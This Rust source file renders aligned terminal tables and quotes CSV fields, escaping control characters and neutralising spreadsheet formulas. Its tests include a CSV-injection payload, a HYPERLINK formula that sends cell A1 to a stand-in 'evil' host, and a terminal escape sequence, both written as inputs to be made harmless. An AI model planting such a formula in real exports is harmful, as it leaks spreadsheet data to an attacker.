//! Aligned text tables for terminals: every cell escaped, widths by display columns
//! (wide CJK and emoji count as two), long cells cut with an ellipsis.

use crate::sanitize::escape;
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// Cuts `text` to at most `max` display columns, ending in `…` when cut.
pub fn truncate(text: &str, max: usize) -> String {
    if text.width() <= max {
        return text.to_string();
    }
    let mut out = String::new();
    let mut used = 0;
    for c in text.chars() {
        let w = c.width().unwrap_or(0);
        if used + w + 1 > max {
            break;
        }
        out.push(c);
        used += w;
    }
    out.push('…');
    out
}

/// The longest part of `chars` that fits in `room` display columns, taken from
/// the front, or from the back with `from_end`.
fn fitting(text: &str, room: usize, from_end: bool) -> String {
    let mut used = 0;
    let mut kept = Vec::new();
    let chars: Box<dyn Iterator<Item = char>> = if from_end {
        Box::new(text.chars().rev())
    } else {
        Box::new(text.chars())
    };
    for c in chars {
        let w = c.width().unwrap_or(0);
        if used + w > room {
            break;
        }
        kept.push(c);
        used += w;
    }
    if from_end {
        kept.reverse();
    }
    kept.into_iter().collect()
}

/// Cuts `text` to at most `max` display columns by taking out its middle, so
/// both ends stay: an SSO role session keeps its user's e-mail
/// (`AWSReservedSSO_Adm…/alice@example.com`). The end gets the larger share.
pub fn cut_middle(text: &str, max: usize) -> String {
    if text.width() <= max {
        return text.to_string();
    }
    if max == 0 {
        return String::new();
    }
    let room = max - 1;
    let head = room * 2 / 5;
    let tail = fitting(text, room - head, true);
    let head = fitting(text, room - tail.width(), false);
    format!("{head}…{tail}")
}

/// Cuts `text` to at most `max` display columns from the front, keeping its
/// end (`…10:42:07` of a timestamp).
pub fn cut_front(text: &str, max: usize) -> String {
    if text.width() <= max {
        return text.to_string();
    }
    if max == 0 {
        return String::new();
    }
    format!("…{}", fitting(text, max - 1, true))
}

/// Pads with spaces to `width` display columns.
pub fn pad(text: &str, width: usize) -> String {
    let w = text.width();
    let mut s = text.to_string();
    for _ in w..width {
        s.push(' ');
    }
    s
}

/// Renders rows under a header; `max_widths[i]` caps column `i`.
pub fn render(header: &[&str], rows: &[Vec<String>], max_widths: &[usize]) -> String {
    let mut out = Vec::new();
    // Writing to a vector cannot fail.
    let _ = write(header, max_widths, || rows.iter().cloned(), &mut out);
    String::from_utf8_lossy(&out).into_owned()
}

/// Writes rows under a header; `max_widths[i]` caps column `i`. The rows are made
/// twice, once to measure the columns and once to write them, so a listing of
/// half a million actors is never held as cells all at once.
pub fn write<I: Iterator<Item = Vec<String>>>(
    header: &[&str],
    max_widths: &[usize],
    rows: impl Fn() -> I,
    out: &mut dyn std::io::Write,
) -> std::io::Result<()> {
    let cells = |r: Vec<String>| -> Vec<String> {
        r.iter()
            .enumerate()
            .map(|(i, c)| truncate(&escape(c), *max_widths.get(i).unwrap_or(&60)))
            .collect()
    };
    let mut widths: Vec<usize> = header.iter().map(|h| h.width()).collect();
    for r in rows().map(cells) {
        for (i, c) in r.iter().enumerate() {
            if i < widths.len() {
                widths[i] = widths[i].max(c.width());
            }
        }
    }
    let line = |cols: &[&str], out: &mut dyn std::io::Write| {
        let last = cols.len().saturating_sub(1);
        let mut s = String::new();
        for (i, c) in cols.iter().enumerate() {
            if i == last {
                s.push_str(c);
            } else {
                s.push_str(&pad(c, widths[i]));
                s.push_str("  ");
            }
        }
        out.write_all(s.trim_end().as_bytes())?;
        out.write_all(b"\n")
    };
    line(header, out)?;
    for r in rows().map(cells) {
        line(&r.iter().map(String::as_str).collect::<Vec<_>>(), out)?;
    }
    Ok(())
}

/// One CSV field (RFC 4180 quoting), control characters escaped. A field that a
/// spreadsheet would run as a formula — starting with `=`, `+`, `-`, `@`, TAB or
/// CR — is prefixed with `'` (OWASP's advice against CSV injection); a lone `-`
/// (trailscope's "no value") is left as it is.
pub fn csv_field(text: &str) -> String {
    let formula = text.starts_with(['=', '+', '-', '@', '\t', '\r']) && text != "-";
    let escaped = escape(text);
    let safe = if formula {
        std::borrow::Cow::Owned(format!("'{escaped}"))
    } else {
        escaped
    };
    if safe.contains([',', '"', '\n']) || safe.starts_with(' ') || safe.ends_with(' ') {
        format!("\"{}\"", safe.replace('"', "\"\""))
    } else {
        safe.into_owned()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cuts_keep_the_end_that_matters() {
        let sso = "AWSReservedSSO_AdministratorAccess_0123456789abcdef/alice@example.com";
        let cut = cut_middle(sso, 40);
        assert_eq!(cut.width(), 40);
        assert!(cut.ends_with("/alice@example.com"), "{cut}");
        assert!(cut.starts_with("AWSReservedSSO_"), "{cut}");
        assert_eq!(cut_middle("short", 40), "short");
        assert_eq!(cut_middle("abcdef", 1), "…");
        assert_eq!(cut_middle("abcdef", 0), "");
        // Wide characters count as two columns and are never split.
        let wide = cut_middle("日本語のテキストです", 9);
        assert!(wide.width() <= 9, "{wide}");
        assert_eq!(cut_front("2024-03-01 10:42:07", 9), "…10:42:07");
        assert_eq!(cut_front("10:42", 9), "10:42");
    }

    #[test]
    fn alignment_counts_display_columns() {
        let out = render(
            &["A", "B"],
            &[
                vec!["日本".into(), "x".into()],
                vec!["ab".into(), "y".into()],
            ],
            &[10, 10],
        );
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines[1], "日本  x");
        assert_eq!(lines[2], "ab    y");
    }

    #[test]
    fn cells_are_escaped_and_cut() {
        let out = render(&["A"], &[vec!["\u{1b}[2Jhello world".into()]], &[12]);
        assert!(!out.contains('\u{1b}'));
        assert!(out.contains("\\u{1b}[2Jhe…"), "{out}");
        assert_eq!(truncate("abcdef", 4), "abc…");
    }

    #[test]
    fn csv_quoting() {
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("say \"hi\""), "\"say \"\"hi\"\"\"");
        assert_eq!(csv_field("line\nbreak"), "line\\u{a}break");
        assert_eq!(csv_field("plain"), "plain");
    }

    #[test]
    fn csv_formulas_are_neutralised() {
        assert_eq!(
            csv_field("=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")"),
            "\"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\""
        );
        assert_eq!(csv_field("=1+1"), "'=1+1");
        assert_eq!(csv_field("+1"), "'+1");
        assert_eq!(csv_field("-2+3"), "'-2+3");
        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(csv_field("\tx"), "'\\u{9}x");
        assert_eq!(csv_field("\rx"), "'\\u{d}x");
        assert_eq!(csv_field("-"), "-");
        assert_eq!(csv_field("Admin/=1+1"), "Admin/=1+1");
    }
}
